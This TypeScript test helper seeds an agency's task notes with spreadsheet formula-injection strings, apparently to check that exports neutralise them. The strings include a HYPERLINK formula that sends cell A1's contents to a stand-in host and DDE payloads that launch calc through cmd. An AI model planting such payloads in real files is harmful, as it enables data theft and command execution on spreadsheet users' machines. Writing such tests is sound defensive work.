import type { AgencyEntries } from '../../../fields/entry';

/** Texts a spreadsheet program would evaluate if they arrived as anything but text. */
const INJECTED = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"Xem chi tiết")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+84 204 3854 000',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
];

export interface InjectedText {
  agencyId: string;
  code: string;
  column: 'note';
  text: string;
}

/** Formulas as text in the notes of the agency's first rows. */
export function injectFormulas(agencyId: string, entries: AgencyEntries): InjectedText[] {
  return Object.keys(entries.tasks)
    .slice(0, INJECTED.length)
    .map((code, index) => {
      const text = INJECTED[index] ?? '';
      entries.tasks[code] = { ...entries.tasks[code], note: text };
      return { agencyId, code, column: 'note', text };
    });
}
